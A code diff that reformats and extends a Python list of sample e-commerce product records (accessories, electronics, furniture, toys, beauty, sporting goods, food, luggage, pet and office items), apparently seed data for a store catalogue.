+    dict(
+        title="Chunky Knit Beanie with Faux Fur Pom",
+        cat="Apparel & Accessories > Clothing Accessories > Hats > Beanies",
+        product_type="Hats",
+        vendor="Maple & Thread",
+        tags=["beanie", "winter", "women", "burgundy"],
+        options=[("Color", ("Burgundy", "Cream", "Charcoal"))],
+        price=32.0,
+        desc=html(
+            "A thick cable-knit beanie with a fold-over cuff and a removable faux-fur pom. Colour shown: burgundy.",
+            ["100% acrylic knit", "Fleece-lined band", "One size"],
+        ),
+        care="hand",
+        img=[("beanie", "burgundy")],
+    ),
+    dict(
+        title="Cashmere Blend Plaid Scarf",
+        cat="Apparel & Accessories > Clothing Accessories > Scarves & Shawls",
+        product_type="Scarves",
+        vendor="Highland Mill",
+        tags=["scarf", "plaid", "winter", "gray", "unisex"],
+        options=[],
+        price=75.0,
+        desc=html(
+            'Soft, warm and generously sized (70" x 12"). A gray and charcoal plaid in a cashmere-wool blend, finished with fringed ends.',
+            ["30% cashmere, 70% wool", "Woven in Scotland"],
+        ),
+        care="dry",
+        img=[("scarf", "gray", "plaid")],
+    ),
+    dict(
+        title="Vegan Leather Crossbody Bag",
+        cat="Apparel & Accessories > Handbags, Wallets & Cases > Handbags > Cross Body Bags",
+        product_type="Bags",
+        vendor="Roam Travel Goods",
+        tags=["bags", "crossbody", "vegan", "black"],
+        options=[("Color", ("Black", "Cognac"))],
+        price=68.0,
+        desc=html(
+            "A compact women's crossbody bag in vegan (faux) leather with an adjustable strap, magnetic flap closure and card slots inside.",
+            ["Faux leather (PU)", 'Adjustable strap, 22&ndash;40" drop', "Magnetic closure"],
+        ),
+        care="wipe",
+        img=[("crossbody", "black")],
+    ),
+    dict(
+        title="Suede Slouchy Hobo Bag",
+        cat="Apparel & Accessories > Handbags, Wallets & Cases > Handbags > Hobo Bags",
+        product_type="Handbags",
+        vendor="Roam Travel Goods",
+        tags=["hobo", "suede", "brown", "handbag"],
+        options=[],
+        price=165.0,
+        desc=html(
+            "Soft, unstructured hobo shoulder bag in genuine suede with a single shoulder strap and zip top.",
+            ["Genuine suede", "Cotton twill lining", "Zip closure"],
+        ),
+        care="wipe",
+        img=[("handbag", "tan")],
+    ),
+    dict(
+        title="Men's Slim Leather Bifold Wallet",
+        cat="Apparel & Accessories > Handbags, Wallets & Cases > Wallets & Money Clips > Wallets",
+        product_type="Wallets",
+        vendor="Cobble & Co.",
+        tags=["men", "wallet", "leather", "rfid"],
+        options=[("Color", ("Black", "Brown"))],
+        price=45.0,
+        desc=html(
+            "A slim men's bifold in full-grain leather with RFID blocking and six card slots.",
+            ["Full-grain leather", "RFID blocking", "Gift boxed"],
+        ),
+        care="wipe",
+        img=[("wallet", "black")],
+    ),
+    dict(
+        title="Polarized Aviator Sunglasses",
+        cat="Apparel & Accessories > Clothing Accessories > Sunglasses",
+        product_type="Sunglasses",
+        vendor="Meridian Time",
+        tags=["sunglasses", "aviator", "unisex", "gold"],
+        options=[],
+        price=95.0,
+        desc=html(
+            "Classic unisex aviators with a gold metal frame and polarized gray lenses. 100% UV400 protection.",
+            ["Metal frame", "Polarized lenses", "Includes hard case"],
+        ),
+        care=None,
+        img=[("sunglasses", "gold")],
+    ),
+    dict(
+        title="Men's Reversible Leather Belt",
+        cat="Apparel & Accessories > Clothing Accessories > Belts",
+        product_type="Belts",
+        vendor="Cobble & Co.",
+        tags=["men", "belt", "leather", "reversible"],
+        options=[("Size", ("32", "34", "36", "38", "40"))],
+        price=55.0,
+        desc="Reversible men's dress belt: black on one side, brown on the other. Full-grain leather, rotating silver-tone buckle.",
+        care="wipe",
+        img=[("belt", "black")],
+    ),
     # ---------------------------------------------------------------- electronics
-    dict(title="Wireless Noise-Cancelling Over-Ear Headphones", cat="Electronics > Audio > Audio Components > Headphones & Headsets",
-         product_type="Headphones", vendor="SoundWave Audio", tags=["headphones", "bluetooth", "anc", "black"],
-         options=[("Color", ("Matte Black", "Silver"))], price=249.0,
-         desc=html("Immersive sound with hybrid active noise cancellation, 40-hour battery life and multipoint Bluetooth 5.3.",
-                   ["40 mm dynamic drivers", "USB-C fast charging", "Foldable, with travel case"]),
-         care=None, img=[("headphones", "black"), ("headphones", "silver")]),
-    dict(title="Kids' Volume-Limited Headphones", cat="Electronics > Audio > Audio Components > Headphones & Headsets",
-         product_type="Headphones", vendor="SoundWave Audio", tags=["kids", "headphones", "wired", "blue"],
-         options=[("Color", ("Blue", "Pink"))], price=29.0,
-         desc=html("Safe listening for little ears: volume limited to 85 dB, bendable headband and a 3.5 mm cable.",
-                   ["85 dB volume limit", "Ages 3+"]),
-         care=None, img=[]),
-    dict(title="Portable Waterproof Bluetooth Speaker", cat="Electronics > Audio > Audio Components > Speakers",
-         product_type="Speakers", vendor="SoundWave Audio", tags=["speaker", "bluetooth", "waterproof", "outdoor"],
-         options=[("Color", ("Teal", "Black"))], price=79.0,
-         desc=html("Big 360&deg; sound from a speaker that fits in a water bottle holder. IP67 waterproof and dustproof, 12-hour battery.",
-                   ["IP67 waterproof", "Stereo pairing", "Built-in mic for calls"]),
-         care=None, img=[("speaker", "teal")]),
+    dict(
+        title="Wireless Noise-Cancelling Over-Ear Headphones",
+        cat="Electronics > Audio > Audio Components > Headphones & Headsets",
+        product_type="Headphones",
+        vendor="SoundWave Audio",
+        tags=["headphones", "bluetooth", "anc", "black"],
+        options=[("Color", ("Matte Black", "Silver"))],
+        price=249.0,
+        desc=html(
+            "Immersive sound with hybrid active noise cancellation, 40-hour battery life and multipoint Bluetooth 5.3.",
+            ["40 mm dynamic drivers", "USB-C fast charging", "Foldable, with travel case"],
+        ),
+        care=None,
+        img=[("headphones", "black"), ("headphones", "silver")],
+    ),
+    dict(
+        title="Kids' Volume-Limited Headphones",
+        cat="Electronics > Audio > Audio Components > Headphones & Headsets",
+        product_type="Headphones",
+        vendor="SoundWave Audio",
+        tags=["kids", "headphones", "wired", "blue"],
+        options=[("Color", ("Blue", "Pink"))],
+        price=29.0,
+        desc=html(
+            "Safe listening for little ears: volume limited to 85 dB, bendable headband and a 3.5 mm cable.",
+            ["85 dB volume limit", "Ages 3+"],
+        ),
+        care=None,
+        img=[],
+    ),
+    dict(
+        title="Portable Waterproof Bluetooth Speaker",
+        cat="Electronics > Audio > Audio Components > Speakers",
+        product_type="Speakers",
+        vendor="SoundWave Audio",
+        tags=["speaker", "bluetooth", "waterproof", "outdoor"],
+        options=[("Color", ("Teal", "Black"))],
+        price=79.0,
+        desc=html(
+            "Big 360&deg; sound from a speaker that fits in a water bottle holder. IP67 waterproof and dustproof, 12-hour battery.",
+            ["IP67 waterproof", "Stereo pairing", "Built-in mic for calls"],
+        ),
+        care=None,
+        img=[("speaker", "teal")],
+    ),
     # ---------------------------------------------------------------- home
-    dict(title="Stoneware Coffee Mug, 12 oz", cat="Home & Garden > Kitchen & Dining > Tableware",
-         product_type="Mugs", vendor="Kettle & Co.", tags=["mug", "ceramic", "handmade", "kitchen"],
-         options=[("Color", ("Speckled White", "Sage Green"))], price=22.0,
-         desc=html("Wheel-thrown stoneware mug with a speckled glaze. Holds 12 oz of your favourite brew.",
-                   ["Dishwasher and microwave safe", "Lead-free glaze"]),
-         care=None, img=[("mug", "white")]),
-    dict(title="10-Inch Pre-Seasoned Cast Iron Skillet", cat="Home & Garden > Kitchen & Dining > Cookware & Bakeware",
-         product_type="Cookware", vendor="Kettle & Co.", tags=["cast iron", "skillet", "cookware"],
-         options=[], price=39.0,
-         desc=html("A heirloom-quality cast iron skillet, pre-seasoned with vegetable oil and ready to cook. Oven, stovetop, grill and campfire safe.",
-                   ["10.25\" diameter", "Works on induction"]),
-         care=None, img=[("pan", "black")]),
-    dict(title="Bamboo Cooking Utensil Set, 6 Pieces", cat="Home & Garden > Kitchen & Dining > Kitchen Tools & Utensils",
-         product_type="Kitchen Utensils", vendor="Kettle & Co.", tags=["bamboo", "utensils", "eco-friendly"],
-         options=[], price=24.0,
-         desc=html("Spatula, slotted spoon, spoon, fork, turner and tongs in organic bamboo. Won't scratch nonstick pans.",
-                   ["Organic bamboo", "Hand wash"]),
-         care=None, img=[]),
-    dict(title="Mid-Century Modern Dining Chair, Set of 2", cat="Furniture > Chairs > Kitchen & Dining Room Chairs",
-         product_type="Dining Chairs", vendor="Hearth & Oak", tags=["furniture", "dining chair", "walnut", "mid-century"],
-         options=[("Finish", ("Walnut", "Natural Oak"))], price=349.0,
-         desc=html("Sculpted bentwood backrest on solid walnut legs. Sold as a pair.",
-                   ["Solid walnut frame", "Seat height 18\"", "Assembly required"]),
-         care=None, img=[("chair", "brown")]),
-    dict(title="Ergonomic Gaming Chair with Lumbar Pillow", cat="Furniture > Chairs > Gaming Chairs",
-         product_type="Gaming Chair", vendor="Hearth & Oak", tags=["gaming", "chair", "ergonomic", "red"],
-         options=[("Color", ("Red/Black", "Blue/Black"))], price=229.0,
-         desc=html("Racing-style gaming chair with a high back, 4D armrests, 155&deg; recline and a lumbar support pillow.",
-                   ["PU leather", "Max load 300 lb", "Class 4 gas lift"]),
-         care=None, img=[("chair", "red")]),
-    dict(title="Solid Oak 6-Seater Dining Table", cat="Furniture > Tables > Kitchen & Dining Room Tables",
-         product_type="Tables", vendor="Hearth & Oak", tags=["dining table", "oak", "farmhouse"],
-         options=[], price=1199.0,
-         desc=html("A farmhouse dining table in FSC-certified solid white oak, seats six. 72\" x 36\".",
-                   ["Solid oak", "Hand-rubbed oil finish"]),
-         care=None, img=[("table", "tan")]),
-    dict(title="Velvet Loveseat Sofa - Navy", cat="Furniture > Sofas > Loveseat Sofas",
-         product_type="Sofas", vendor="Hearth & Oak", tags=["sofa", "loveseat", "velvet", "navy"],
-         options=[], price=799.0,
-         desc=html("A compact two-seat velvet loveseat with track arms, deep seat cushions and tapered gold legs. Perfect for small spaces.",
-                   ["Performance velvet", "62\" wide", "Kiln-dried hardwood frame"]),
-         care=None, img=[("sofa", "navy")]),
-    dict(title="L-Shaped Sectional Sofa with Reversible Chaise", cat="Furniture > Sofas > Sectional Sofas",
-         product_type="Sofas", vendor="Hearth & Oak", tags=["sofa", "sectional", "gray", "living room"],
-         options=[("Orientation", ("Left", "Right"))], price=1499.0,
-         desc=html("Seats five comfortably. Stain-resistant gray woven fabric, reversible chaise and removable cushion covers.",
-                   ["Seats 5", "Removable, washable covers"]),
-         care=None, img=[("sofa", "gray")]),
-    dict(title="Boho Tufted Throw Pillow Cover 18x18", cat="Home & Garden > Decor > Throw Pillows",
-         product_type="Pillows", vendor="Hearth & Oak", tags=["decor", "pillow cover", "boho", "cream"],
-         options=[], price=26.0,
-         desc=html("Hand-tufted cotton pillow cover with a textured diamond pattern. Insert not included.",
-                   ["100% cotton", "Hidden zipper"]),
-         care=None, img=[("pillow", "beige")]),
+    dict(
+        title="Stoneware Coffee Mug, 12 oz",
+        cat="Home & Garden > Kitchen & Dining > Tableware",
+        product_type="Mugs",
+        vendor="Kettle & Co.",
+        tags=["mug", "ceramic", "handmade", "kitchen"],
+        options=[("Color", ("Speckled White", "Sage Green"))],
+        price=22.0,
+        desc=html(
+            "Wheel-thrown stoneware mug with a speckled glaze. Holds 12 oz of your favourite brew.",
+            ["Dishwasher and microwave safe", "Lead-free glaze"],
+        ),
+        care=None,
+        img=[("mug", "white")],
+    ),
+    dict(
+        title="10-Inch Pre-Seasoned Cast Iron Skillet",
+        cat="Home & Garden > Kitchen & Dining > Cookware & Bakeware",
+        product_type="Cookware",
+        vendor="Kettle & Co.",
+        tags=["cast iron", "skillet", "cookware"],
+        options=[],
+        price=39.0,
+        desc=html(
+            "A heirloom-quality cast iron skillet, pre-seasoned with vegetable oil and ready to cook. Oven, stovetop, grill and campfire safe.",
+            ['10.25" diameter', "Works on induction"],
+        ),
+        care=None,
+        img=[("pan", "black")],
+    ),
+    dict(
+        title="Bamboo Cooking Utensil Set, 6 Pieces",
+        cat="Home & Garden > Kitchen & Dining > Kitchen Tools & Utensils",
+        product_type="Kitchen Utensils",
+        vendor="Kettle & Co.",
+        tags=["bamboo", "utensils", "eco-friendly"],
+        options=[],
+        price=24.0,
+        desc=html(
+            "Spatula, slotted spoon, spoon, fork, turner and tongs in organic bamboo. Won't scratch nonstick pans.",
+            ["Organic bamboo", "Hand wash"],
+        ),
+        care=None,
+        img=[],
+    ),
+    dict(
+        title="Mid-Century Modern Dining Chair, Set of 2",
+        cat="Furniture > Chairs > Kitchen & Dining Room Chairs",
+        product_type="Dining Chairs",
+        vendor="Hearth & Oak",
+        tags=["furniture", "dining chair", "walnut", "mid-century"],
+        options=[("Finish", ("Walnut", "Natural Oak"))],
+        price=349.0,
+        desc=html(
+            "Sculpted bentwood backrest on solid walnut legs. Sold as a pair.",
+            ["Solid walnut frame", 'Seat height 18"', "Assembly required"],
+        ),
+        care=None,
+        img=[("chair", "brown")],
+    ),
+    dict(
+        title="Ergonomic Gaming Chair with Lumbar Pillow",
+        cat="Furniture > Chairs > Gaming Chairs",
+        product_type="Gaming Chair",
+        vendor="Hearth & Oak",
+        tags=["gaming", "chair", "ergonomic", "red"],
+        options=[("Color", ("Red/Black", "Blue/Black"))],
+        price=229.0,
+        desc=html(
+            "Racing-style gaming chair with a high back, 4D armrests, 155&deg; recline and a lumbar support pillow.",
+            ["PU leather", "Max load 300 lb", "Class 4 gas lift"],
+        ),
+        care=None,
+        img=[("chair", "red")],
+    ),
+    dict(
+        title="Solid Oak 6-Seater Dining Table",
+        cat="Furniture > Tables > Kitchen & Dining Room Tables",
+        product_type="Tables",
+        vendor="Hearth & Oak",
+        tags=["dining table", "oak", "farmhouse"],
+        options=[],
+        price=1199.0,
+        desc=html(
+            'A farmhouse dining table in FSC-certified solid white oak, seats six. 72" x 36".',
+            ["Solid oak", "Hand-rubbed oil finish"],
+        ),
+        care=None,
+        img=[("table", "tan")],
+    ),
+    dict(
+        title="Velvet Loveseat Sofa - Navy",
+        cat="Furniture > Sofas > Loveseat Sofas",
+        product_type="Sofas",
+        vendor="Hearth & Oak",
+        tags=["sofa", "loveseat", "velvet", "navy"],
+        options=[],
+        price=799.0,
+        desc=html(
+            "A compact two-seat velvet loveseat with track arms, deep seat cushions and tapered gold legs. Perfect for small spaces.",
+            ["Performance velvet", '62" wide', "Kiln-dried hardwood frame"],
+        ),
+        care=None,
+        img=[("sofa", "navy")],
+    ),
+    dict(
+        title="L-Shaped Sectional Sofa with Reversible Chaise",
+        cat="Furniture > Sofas > Sectional Sofas",
+        product_type="Sofas",
+        vendor="Hearth & Oak",
+        tags=["sofa", "sectional", "gray", "living room"],
+        options=[("Orientation", ("Left", "Right"))],
+        price=1499.0,
+        desc=html(
+            "Seats five comfortably. Stain-resistant gray woven fabric, reversible chaise and removable cushion covers.",
+            ["Seats 5", "Removable, washable covers"],
+        ),
+        care=None,
+        img=[("sofa", "gray")],
+    ),
+    dict(
+        title="Boho Tufted Throw Pillow Cover 18x18",
+        cat="Home & Garden > Decor > Throw Pillows",
+        product_type="Pillows",
+        vendor="Hearth & Oak",
+        tags=["decor", "pillow cover", "boho", "cream"],
+        options=[],
+        price=26.0,
+        desc=html(
+            "Hand-tufted cotton pillow cover with a textured diamond pattern. Insert not included.",
+            ["100% cotton", "Hidden zipper"],
+        ),
+        care=None,
+        img=[("pillow", "beige")],
+    ),
     # ---------------------------------------------------------------- toys
-    dict(title="1000-Piece Jigsaw Puzzle - Alpine Lake", cat="Toys & Games > Puzzles > Jigsaw Puzzles",
-         product_type="Puzzles", vendor="Piecework Puzzles", tags=["puzzle", "1000 pieces", "adults", "landscape"],
-         options=[], price=22.0,
-         desc=html("A 1000-piece jigsaw puzzle of a mountain lake at dawn. Finished size 27\" x 20\".",
-                   ["Recycled board", "Linen-finish pieces", "Poster included"]),
-         care=None, img=[("puzzle", "multicolor")]),
-    dict(title="Classic Plush Teddy Bear, 14 inch", cat="Toys & Games > Toys > Dolls, Playsets & Toy Figures",
-         product_type="Stuffed Animals", vendor="Little Grove Toys", tags=["teddy bear", "plush", "baby gift"],
-         options=[], price=28.0,
-         desc=html("Huggably soft plush teddy bear with embroidered eyes. Suitable from birth.",
-                   ["Surface washable", "Polyester fill"]),
-         care=None, img=[("teddy", "tan")]),
-    dict(title="Wooden Building Blocks, 50 Pieces", cat="Toys & Games > Toys > Building Toys",
-         product_type="Toys", vendor="Little Grove Toys", tags=["blocks", "wooden toys", "toddler", "stem"],
-         options=[], price=34.0,
-         desc=html("Fifty smooth beechwood blocks in ten shapes and five colours, in a canvas storage bag. For ages 1+.",
-                   ["Non-toxic water-based paint", "Ages 12 months+"]),
-         care=None, img=[("blocks", "multicolor")]),
+    dict(
+        title="1000-Piece Jigsaw Puzzle - Alpine Lake",
+        cat="Toys & Games > Puzzles > Jigsaw Puzzles",
+        product_type="Puzzles",
+        vendor="Piecework Puzzles",
+        tags=["puzzle", "1000 pieces", "adults", "landscape"],
+        options=[],
+        price=22.0,
+        desc=html(
+            'A 1000-piece jigsaw puzzle of a mountain lake at dawn. Finished size 27" x 20".',
+            ["Recycled board", "Linen-finish pieces", "Poster included"],
+        ),
+        care=None,
+        img=[("puzzle", "multicolor")],
+    ),
+    dict(
+        title="Classic Plush Teddy Bear, 14 inch",
+        cat="Toys & Games > Toys > Dolls, Playsets & Toy Figures",
+        product_type="Stuffed Animals",
+        vendor="Little Grove Toys",
+        tags=["teddy bear", "plush", "baby gift"],
+        options=[],
+        price=28.0,
+        desc=html(
+            "Huggably soft plush teddy bear with embroidered eyes. Suitable from birth.",
+            ["Surface washable", "Polyester fill"],
+        ),
+        care=None,
+        img=[("teddy", "tan")],
+    ),
+    dict(
+        title="Wooden Building Blocks, 50 Pieces",
+        cat="Toys & Games > Toys > Building Toys",
+        product_type="Toys",
+        vendor="Little Grove Toys",
+        tags=["blocks", "wooden toys", "toddler", "stem"],
+        options=[],
+        price=34.0,
+        desc=html(
+            "Fifty smooth beechwood blocks in ten shapes and five colours, in a canvas storage bag. For ages 1+.",
+            ["Non-toxic water-based paint", "Ages 12 months+"],
+        ),
+        care=None,
+        img=[("blocks", "multicolor")],
+    ),
     # ---------------------------------------------------------------- health & beauty
-    dict(title="Argan Oil Repair Shampoo, 16.9 fl oz", cat="Health & Beauty > Personal Care > Hair Care",
-         product_type="Shampoo", vendor="Bloom Botanics", tags=["shampoo", "hair care", "sulfate-free", "argan"],
-         options=[], price=18.0,
-         desc=html("Sulfate-free shampoo with cold-pressed argan oil to repair dry, damaged and colour-treated hair.",
-                   ["Sulfate- and paraben-free", "Vegan, cruelty-free"]),
-         care=None, img=[("bottle", "amber")]),
-    dict(title="Hydrating Face Moisturizer with Hyaluronic Acid", cat="Health & Beauty > Personal Care > Cosmetics",
-         product_type="Skincare", vendor="Bloom Botanics", tags=["skincare", "moisturizer", "face cream"],
-         options=[("Size", ("1.7 oz", "3.4 oz"))], price=32.0,
-         desc=html("A lightweight daily face cream with hyaluronic acid and ceramides for 72-hour hydration. Fragrance-free.",
-                   ["For all skin types", "Dermatologist tested"]),
-         care=None, img=[("jar", "pink")]),
+    dict(
+        title="Argan Oil Repair Shampoo, 16.9 fl oz",
+        cat="Health & Beauty > Personal Care > Hair Care",
+        product_type="Shampoo",
+        vendor="Bloom Botanics",
+        tags=["shampoo", "hair care", "sulfate-free", "argan"],
+        options=[],
+        price=18.0,
+        desc=html(
+            "Sulfate-free shampoo with cold-pressed argan oil to repair dry, damaged and colour-treated hair.",
+            ["Sulfate- and paraben-free", "Vegan, cruelty-free"],
+        ),
+        care=None,
+        img=[("bottle", "amber")],
+    ),
+    dict(
+        title="Hydrating Face Moisturizer with Hyaluronic Acid",
+        cat="Health & Beauty > Personal Care > Cosmetics",
+        product_type="Skincare",
+        vendor="Bloom Botanics",
+        tags=["skincare", "moisturizer", "face cream"],
+        options=[("Size", ("1.7 oz", "3.4 oz"))],
+        price=32.0,
+        desc=html(
+            "A lightweight daily face cream with hyaluronic acid and ceramides for 72-hour hydration. Fragrance-free.",
+            ["For all skin types", "Dermatologist tested"],
+        ),
+        care=None,
+        img=[("jar", "pink")],
+    ),
     # ---------------------------------------------------------------- sporting goods
-    dict(title="Non-Slip Yoga Mat, 6mm", cat="Sporting Goods > Fitness & General Exercise Equipment > Yoga & Pilates",
-         product_type="Yoga Mats", vendor="Stride Athletics", tags=["yoga", "mat", "pilates", "purple"],
-         options=[("Color", ("Lavender", "Ocean Blue", "Black"))], price=42.0,
-         desc=html("Extra-thick 6 mm TPE yoga mat with a non-slip texture on both sides and a carry strap.",
-                   ["72\" x 24\"", "Latex-free TPE"]),
-         care=None, img=[("yogamat", "purple"), ("yogamat", "blue")]),
-    dict(title="Rubber Hex Dumbbells, Pair", cat="Sporting Goods > Fitness & General Exercise Equipment > Weight Lifting",
-         product_type="Dumbbells", vendor="IronForm", tags=["dumbbells", "strength", "home gym"],
-         options=[("Weight", ("10 lb", "15 lb", "20 lb", "25 lb"))], price=59.0,
-         desc=html("Rubber-encased hex dumbbells with knurled chrome handles. Sold in pairs.",
-                   ["Anti-roll hex heads", "Floor-friendly rubber coating"]),
-         care=None, img=[("dumbbell", "black")]),
-    dict(title="Resistance Loop Bands, Set of 5", cat="Sporting Goods > Fitness & General Exercise Equipment > Exercise Bands & Loops",
-         product_type="Fitness Accessories", vendor="IronForm", tags=["resistance bands", "mobility", "physio"],
-         options=[], price=15.0,
-         desc="Five latex loop bands from extra-light to extra-heavy resistance, with a mesh carry bag.",
-         care=None, img=[]),
+    dict(
+        title="Non-Slip Yoga Mat, 6mm",
+        cat="Sporting Goods > Fitness & General Exercise Equipment > Yoga & Pilates",
+        product_type="Yoga Mats",
+        vendor="Stride Athletics",
+        tags=["yoga", "mat", "pilates", "purple"],
+        options=[("Color", ("Lavender", "Ocean Blue", "Black"))],
+        price=42.0,
+        desc=html(
+            "Extra-thick 6 mm TPE yoga mat with a non-slip texture on both sides and a carry strap.",
+            ['72" x 24"', "Latex-free TPE"],
+        ),
+        care=None,
+        img=[("yogamat", "purple"), ("yogamat", "blue")],
+    ),
+    dict(
+        title="Rubber Hex Dumbbells, Pair",
+        cat="Sporting Goods > Fitness & General Exercise Equipment > Weight Lifting",
+        product_type="Dumbbells",
+        vendor="IronForm",
+        tags=["dumbbells", "strength", "home gym"],
+        options=[("Weight", ("10 lb", "15 lb", "20 lb", "25 lb"))],
+        price=59.0,
+        desc=html(
+            "Rubber-encased hex dumbbells with knurled chrome handles. Sold in pairs.",
+            ["Anti-roll hex heads", "Floor-friendly rubber coating"],
+        ),
+        care=None,
+        img=[("dumbbell", "black")],
+    ),
+    dict(
+        title="Resistance Loop Bands, Set of 5",
+        cat="Sporting Goods > Fitness & General Exercise Equipment > Exercise Bands & Loops",
+        product_type="Fitness Accessories",
+        vendor="IronForm",
+        tags=["resistance bands", "mobility", "physio"],
+        options=[],
+        price=15.0,
+        desc="Five latex loop bands from extra-light to extra-heavy resistance, with a mesh carry bag.",
+        care=None,
+        img=[],
+    ),
     # ---------------------------------------------------------------- food & beverages
-    dict(title="Ethiopia Yirgacheffe Whole Bean Coffee, 12 oz", cat="Food, Beverages & Tobacco > Beverages > Coffee",
-         product_type="Coffee", vendor="Ridgeline Roasters", tags=["coffee", "whole bean", "single origin", "light roast"],
-         options=[("Grind", ("Whole Bean", "Espresso", "Drip", "French Press"))], price=19.0,
-         desc=html("Bright and floral single-origin light roast with notes of jasmine, bergamot and lemon.",
-                   ["100% arabica", "Roasted to order"]),
-         care=None, img=[("coffee", "brown")]),
-    dict(title="Organic Earl Grey Loose Leaf Tea, 100 g", cat="Food, Beverages & Tobacco > Beverages > Tea & Infusions",
-         product_type="Tea", vendor="Ridgeline Roasters", tags=["tea", "earl grey", "organic", "loose leaf"],
-         options=[], price=14.0,
-         desc=html("Organic black tea scented with cold-pressed bergamot oil. Makes about 40 cups."),
-         care=None, img=[]),
+    dict(
+        title="Ethiopia Yirgacheffe Whole Bean Coffee, 12 oz",
+        cat="Food, Beverages & Tobacco > Beverages > Coffee",
+        product_type="Coffee",
+        vendor="Ridgeline Roasters",
+        tags=["coffee", "whole bean", "single origin", "light roast"],
+        options=[("Grind", ("Whole Bean", "Espresso", "Drip", "French Press"))],
+        price=19.0,
+        desc=html(
+            "Bright and floral single-origin light roast with notes of jasmine, bergamot and lemon.",
+            ["100% arabica", "Roasted to order"],
+        ),
+        care=None,
+        img=[("coffee", "brown")],
+    ),
+    dict(
+        title="Organic Earl Grey Loose Leaf Tea, 100 g",
+        cat="Food, Beverages & Tobacco > Beverages > Tea & Infusions",
+        product_type="Tea",
+        vendor="Ridgeline Roasters",
+        tags=["tea", "earl grey", "organic", "loose leaf"],
+        options=[],
+        price=14.0,
+        desc=html("Organic black tea scented with cold-pressed bergamot oil. Makes about 40 cups."),
+        care=None,
+        img=[],
+    ),
     # ---------------------------------------------------------------- luggage
-    dict(title="Hardside Carry-On Spinner Suitcase 20\"", cat="Luggage & Bags > Suitcases > Carry-On Suitcases",
-         product_type="Luggage", vendor="Roam Travel Goods", tags=["luggage", "carry-on", "spinner", "travel"],
-         options=[("Color", ("Navy", "Silver", "Black"))], price=179.0,
-         desc=html("Airline-compliant polycarbonate carry-on with 360&deg; spinner wheels, a TSA lock and a compression system.",
-                   ["22\" x 14\" x 9\"", "TSA-approved lock", "10-year warranty"]),
-         care=None, img=[("suitcase", "navy"), ("suitcase", "silver")]),
-    dict(title="Water-Resistant Laptop Backpack 25L", cat="Luggage & Bags > Backpacks",
-         product_type="Backpacks", vendor="Roam Travel Goods", tags=["backpack", "laptop", "commuter", "gray"],
-         options=[("Color", ("Charcoal", "Black"))], price=89.0,
-         desc=html("A commuter backpack with a padded 16\" laptop sleeve, luggage pass-through and a water-resistant recycled shell.",
-                   ["25 L capacity", "Fits 16\" laptops", "Recycled polyester"]),
-         care=None, img=[("backpack", "gray")]),
+    dict(
+        title='Hardside Carry-On Spinner Suitcase 20"',
+        cat="Luggage & Bags > Suitcases > Carry-On Suitcases",
+        product_type="Luggage",
+        vendor="Roam Travel Goods",
+        tags=["luggage", "carry-on", "spinner", "travel"],
+        options=[("Color", ("Navy", "Silver", "Black"))],
+        price=179.0,
+        desc=html(
+            "Airline-compliant polycarbonate carry-on with 360&deg; spinner wheels, a TSA lock and a compression system.",
+            ['22" x 14" x 9"', "TSA-approved lock", "10-year warranty"],
+        ),
+        care=None,
+        img=[("suitcase", "navy"), ("suitcase", "silver")],
+    ),
+    dict(
+        title="Water-Resistant Laptop Backpack 25L",
+        cat="Luggage & Bags > Backpacks",
+        product_type="Backpacks",
+        vendor="Roam Travel Goods",
+        tags=["backpack", "laptop", "commuter", "gray"],
+        options=[("Color", ("Charcoal", "Black"))],
+        price=89.0,
+        desc=html(
+            'A commuter backpack with a padded 16" laptop sleeve, luggage pass-through and a water-resistant recycled shell.',
+            ["25 L capacity", 'Fits 16" laptops', "Recycled polyester"],
+        ),
+        care=None,
+        img=[("backpack", "gray")],
+    ),
     # ---------------------------------------------------------------- pets & office
-    dict(title="Durable Rubber Chew Bone Dog Toy", cat="Animals & Pet Supplies > Pet Supplies > Dog Supplies",
-         product_type="Dog Toys", vendor="PawPlay", tags=["dog toy", "chew toy", "aggressive chewers"],
-         options=[("Size", ("Small", "Medium", "Large"))], price=16.0,
-         desc=html("A near-indestructible natural rubber chew bone for dogs. Bacon scented. Dishwasher safe.",
-                   ["Natural rubber", "For aggressive chewers"]),
-         care=None, img=[("bone", "orange")]),
-    dict(title="A5 Dotted Hardcover Notebook", cat="Office Supplies > General Office Supplies",
-         product_type="Notebooks", vendor="Paperhaus", tags=["notebook", "bullet journal", "stationery"],
-         options=[("Color", ("Forest Green", "Black", "Blush"))], price=21.0,
-         desc=html("240 numbered pages of 100 gsm dotted paper, lay-flat binding, two ribbon markers and an elastic closure.",
-                   ["A5 (5.8\" x 8.3\")", "Fountain-pen friendly"]),
-         care=None, img=[("notebook", "green")]),
-    dict(title="Refillable Gel Ink Pens, 0.5 mm, Pack of 6", cat="Office Supplies > Office Instruments",
-         product_type="Pens", vendor="Paperhaus", tags=["pens", "gel pens", "stationery", "office"],
-         options=[], price=12.0,
-         desc=html("Smooth quick-dry black gel ink in a fine 0.5 mm point. Retractable, with comfort grip.", ["Pack of 6", "Refillable"]),
-         care=None, img=[]),
+    dict(
+        title="Durable Rubber Chew Bone Dog Toy",
+        cat="Animals & Pet Supplies > Pet Supplies > Dog Supplies",
+        product_type="Dog Toys",
+        vendor="PawPlay",
+        tags=["dog toy", "chew toy", "aggressive chewers"],
+        options=[("Size", ("Small", "Medium", "Large"))],
+        price=16.0,
+        desc=html(
+            "A near-indestructible natural rubber chew bone for dogs. Bacon scented. Dishwasher safe.",
+            ["Natural rubber", "For aggressive chewers"],
+        ),
+        care=None,
+        img=[("bone", "orange")],
+    ),
+    dict(
+        title="A5 Dotted Hardcover Notebook",
+        cat="Office Supplies > General Office Supplies",
+        product_type="Notebooks",
+        vendor="Paperhaus",
+        tags=["notebook", "bullet journal", "stationery"],
+        options=[("Color", ("Forest Green", "Black", "Blush"))],
+        price=21.0,
+        desc=html(
+            "240 numbered pages of 100 gsm dotted paper, lay-flat binding, two ribbon markers and an elastic closure.",
+            ['A5 (5.8" x 8.3")', "Fountain-pen friendly"],
+        ),
+        care=None,
+        img=[("notebook", "green")],
+    ),
+    dict(
+        title="Refillable Gel Ink Pens, 0.5 mm, Pack of 6",
+        cat="Office Supplies > Office Instruments",
+        product_type="Pens",
+        vendor="Paperhaus",
+        tags=["pens", "gel pens", "stationery", "office"],
+        options=[],
+        price=12.0,
+        desc=html(
+            "Smooth quick-dry black gel ink in a fine 0.5 mm point. Retractable, with comfort grip.",
+            ["Pack of 6", "Refillable"],
+        ),
+        care=None,
+        img=[],
+    ),
 ]
 
 
@@ -1070,8 +1852,13 @@ def build_events(rng: random.Random) -> tuple[list[dict[str, Any]], dict[str, st
